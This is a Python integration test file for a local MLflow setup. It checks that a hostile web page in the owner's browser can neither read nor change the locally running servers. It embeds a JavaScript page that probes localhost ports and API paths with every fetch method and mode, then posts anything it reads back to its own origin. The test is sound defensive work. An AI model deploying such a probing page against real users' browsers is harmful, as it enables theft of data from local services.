"""Only their owner's pages can use the embedded servers in the owner's browser."""

import contextlib
import json
import os
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from mlflow import MlflowClient

from tests.browser import DEADLINE_S, chromium, command, needs_browser, open_tab, wait_until
from tests.interface_requests import PATHS, SEARCH

# A page that gets no answer to a request says so and does not repeat it.
RELOAD_S = 20

pytestmark = [
    pytest.mark.integration,
    needs_browser,
]

# Tries everything that a page can, and tells the server of the page what it could read.
PAGE = """<script>
async function attack() {
  const read = [];
  for (const port of PORTS) for (const path of PATHS) for (const method of ["GET", "POST", "PUT", "DELETE"])
    for (const mode of ["cors", "no-cors"]) for (const credentials of ["include", "omit"]) {
      try {
        const body = method === "GET" ? undefined : "x";
        const answer = await fetch(`http://127.0.0.1:${port}${path}`, {method, mode, credentials, body});
        const text = await answer.text();
        if (answer.ok && text) read.push(`${method} ${port} ${path} ${text.slice(0, 80)}`);
      } catch (refused) {}
    }
  await fetch("/done", {method: "POST", body: JSON.stringify(read)});
}
attack();
</script>"""


class _Site:
    """A web server with one page, and what the page told it."""

    def __init__(self, page: str) -> None:
        self.told: list[str] = []
        self.done = threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                site.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                site.done.set()

            def log_message(self, format: str, *arguments: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)


@contextlib.contextmanager
def site(page: str) -> Iterator[_Site]:
    found = _Site(page)
    thread = threading.Thread(target=found.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        found.server.shutdown()
        found.server.server_close()
        thread.join()


@pytest.mark.usefixtures("unharmed")
def test_a_page_in_the_owners_browser_reads_and_changes_nothing(
    ports: dict[str, int], tmp_path: Path
) -> None:
    page = PAGE.replace("PORTS", json.dumps(list(ports.values()))).replace("PATHS", json.dumps(PATHS))
    with site(page) as evil, chromium(tmp_path, f"http://localhost:{evil.server.server_port}/"):
        assert evil.done.wait(DEADLINE_S)
    assert evil.told == []


def test_mlflows_pages_open_for_their_owner(ports: dict[str, int], tmp_path: Path) -> None:
    user, password = os.environ["MLFLOW_TRACKING_USERNAME"], os.environ["MLFLOW_TRACKING_PASSWORD"]
    host = f"127.0.0.1:{ports['mlflow']}"
    # Only the server has this name. The pages list the newest experiments alone, 5 and 25 of them.
    name = f"shown-{uuid.uuid4().hex}"
    created = MlflowClient().create_experiment(name)
    try:
        with chromium(tmp_path) as debugged:
            # Stands for the dialog in which a person gives user and password.
            wait_for_text(open_tab(debugged, f"http://{user}:{password}@{host}{SEARCH}"), name)
            wait_for_text(open_tab(debugged, f"http://{host}/#/experiments"), name)
    finally:
        MlflowClient().delete_experiment(created)


def wait_for_text(tab: str, text: str) -> None:
    """Wait until a tab shows a text, and reload it now and then."""
    loaded, shown = time.monotonic(), ""

    def shows() -> bool:
        nonlocal loaded, shown
        if time.monotonic() > loaded + RELOAD_S:
            command(tab, "Page.reload")
            loaded = time.monotonic()
        asked = command(tab, "Runtime.evaluate", expression="document.body ? document.body.innerText : ''")
        shown = str(asked.get("result", {}).get("value", ""))
        return text in shown

    wait_until(shows, lambda: f"{text} is not in the tab, which shows: {shown[:2000]}")
